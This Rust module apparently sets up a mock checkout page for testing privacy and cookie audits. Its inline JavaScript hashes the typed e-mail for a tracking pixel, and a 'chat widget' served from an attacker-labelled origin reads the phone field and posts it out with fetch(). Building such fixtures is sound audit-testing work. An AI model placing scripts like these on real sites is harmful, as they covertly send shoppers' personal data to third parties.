//! The privacy checkout (`/privacy/checkout`): a shop page with what a cookie audit and a
//! GDPR review look for, beside the card form.
//!
//! - The shop's own session cookie (`hp_session`: HttpOnly, SameSite=Lax, session): fine.
//! - An analytics tag from the vendor (`/privacy/tag.js`) that sends the SHA-256 of the
//!   trimmed, lower-case e-mail the shopper typed to its pixel (`/privacy/px?em=…`, an image),
//!   "enhanced conversions" style; the pixel answers with a long-lived third-party cookie
//!   (`tw_uid`, two years, SameSite=None; Secure).
//! - A chat widget from another host (the attacker's server plays the chat vendor,
//!   `/privacy/chat.js`) that reads the phone field and posts it to `/privacy/chat/lead`,
//!   and writes a first-party cookie of its own with `document.cookie` (`chat_visitor`).
//!
//! [`super::Shop::plant_privacy_cookie`] makes the pixel set a second third-party cookie
//! (`tw_ad`), the change a rescan must report.

use super::{Origin, Resource};
use std::collections::HashMap;

pub(super) const CHECKOUT_PATH: &str = "/privacy/checkout";
/// The chat vendor's endpoint that receives the phone number.
pub const CHAT_LEAD_PATH: &str = "/privacy/chat/lead";
/// The analytics pixel that receives the hashed e-mail and sets `tw_uid`.
pub const PIXEL_PATH: &str = "/privacy/px";

const CHECKOUT_HTML: &str = r#"<!doctype html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <title>Checkout - Harbor &amp; Pine Outfitters</title>
  <script src="{{VENDOR}}/privacy/tag.js"></script>
  <script src="{{ATTACKER}}/privacy/chat.js"></script>
</head>
<body>
  <h1>Checkout</h1>
  <form id="checkout" action="/privacy/order" method="post">
    <label for="email">E-mail</label>
    <input id="email" name="email" type="email" autocomplete="email">
    <label for="telephone">Phone</label>
    <input id="telephone" name="telephone" type="tel" autocomplete="tel">
    <label for="cc-number">Card number</label>
    <input id="cc-number" name="cardnumber" type="text" autocomplete="cc-number" inputmode="numeric">
    <button type="submit">Pay now</button>
  </form>
</body>
</html>
"#;

/// The analytics tag: hashes the typed e-mail like ad tech's "advanced matching" and sends it
/// to its pixel as an image.
const TAG_JS: &str = r#"(function () {
  var base = document.currentScript.src.replace(/\/privacy\/tag\.js.*$/, '');
  var sent = false;
  function hex(buf) {
    return Array.prototype.map.call(new Uint8Array(buf), function (b) { return ('0' + b.toString(16)).slice(-2); }).join('');
  }
  function track(e) {
    var v = String(e.target.value || '').trim().toLowerCase();
    if (sent || v.indexOf('@') < 0) return;
    sent = true;
    crypto.subtle.digest('SHA-256', new TextEncoder().encode(v)).then(function (d) {
      var img = new Image(1, 1);
      img.src = base + '/privacy/px?ev=begin_checkout&em=' + hex(d);
    });
  }
  document.addEventListener('DOMContentLoaded', function () {
    var el = document.getElementById('email');
    el.addEventListener('change', track);
    el.addEventListener('blur', track);
  });
})();
"#;

/// The chat widget: remembers the visitor in a cookie and sends the phone number as a "lead".
const CHAT_JS: &str = r#"(function () {
  var base = document.currentScript.src.replace(/\/privacy\/chat\.js.*$/, '');
  document.cookie = 'chat_visitor=v' + Math.floor(Math.random() * 1e9) + '; Path=/; Max-Age=2592000; SameSite=Lax';
  var sent = false;
  function lead(e) {
    var tel = String(e.target.value || '');
    if (sent || tel.replace(/\D/g, '').length < 7) return;
    sent = true;
    fetch(base + '/privacy/chat/lead', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ tel: tel, page: location.pathname }) });
  }
  document.addEventListener('DOMContentLoaded', function () {
    var el = document.getElementById('telephone');
    el.addEventListener('change', lead);
    el.addEventListener('blur', lead);
  });
})();
"#;

const PIXEL_GIF: &str = "GIF89a";

/// The pixel's cookie: two years, third-party (SameSite=None needs Secure).
pub(super) const TW_UID: &str = "tw_uid=1.1714000000.a8f3; Max-Age=63072000; Path=/; SameSite=None; Secure";
/// The cookie [`super::Shop::plant_privacy_cookie`] adds.
pub(super) const TW_AD: &str = "tw_ad=cl.99b1; Max-Age=7776000; Path=/; SameSite=None; Secure";

pub(super) fn defaults(fill: impl Fn(&str) -> String) -> HashMap<(Origin, String), Resource> {
    let js = |body: &str| Resource::js(body).with_header("X-Content-Type-Options", "nosniff");
    let checkout = Resource::html(fill(CHECKOUT_HTML))
        .with_header("Set-Cookie", "hp_session=s3ss10n; Path=/; HttpOnly; SameSite=Lax");
    let pixel = Resource::new("image/gif", PIXEL_GIF).with_header("Set-Cookie", TW_UID);
    let lead = Resource::json("{\"ok\":true}").with_header("Access-Control-Allow-Origin", "*");
    [
        (Origin::Shop, CHECKOUT_PATH, checkout),
        (Origin::Shop, "/privacy/order", Resource::json("{\"ok\":true}")),
        (Origin::Vendor, "/privacy/tag.js", js(TAG_JS)),
        (Origin::Vendor, PIXEL_PATH, pixel),
        (Origin::Attacker, "/privacy/chat.js", js(CHAT_JS)),
        (Origin::Attacker, CHAT_LEAD_PATH, lead),
    ]
    .into_iter()
    .map(|(o, p, r)| ((o, p.to_string()), r))
    .collect()
}
